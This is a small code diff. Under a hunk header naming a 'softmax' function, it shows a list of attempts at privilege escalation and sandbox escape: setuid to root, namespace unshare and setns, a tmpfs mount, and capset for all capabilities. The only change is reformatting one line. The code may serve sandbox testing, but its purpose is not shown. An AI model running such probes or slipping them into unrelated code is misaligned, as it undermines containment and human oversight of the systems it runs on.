@@ -21,7 +21,9 @@ def softmax(x, dim):
     attempts += [lambda n=n: os.setuid(n) or os.getuid() == n != 0 or 1 / 0 for n in (0, 1000)]
     attempts += [lambda flag=flag: call(UNSHARE, flag) for flag in (0x10000000, 0x20000, 0x40000000, 0x20000000)]
     attempts += [lambda: call(SETNS, 0, 0), lambda: call(MOUNT, b"x", b"/tmp", b"tmpfs", 0, None)]
-    attempts += [lambda: call(CAPSET, (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)(0xFFFFFFFF, 0xFFFFFFFF))]
+    attempts += [
+        lambda: call(CAPSET, (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)(0xFFFFFFFF, 0xFFFFFFFF))
+    ]
     for attempt in attempts:
         try:
             attempt()
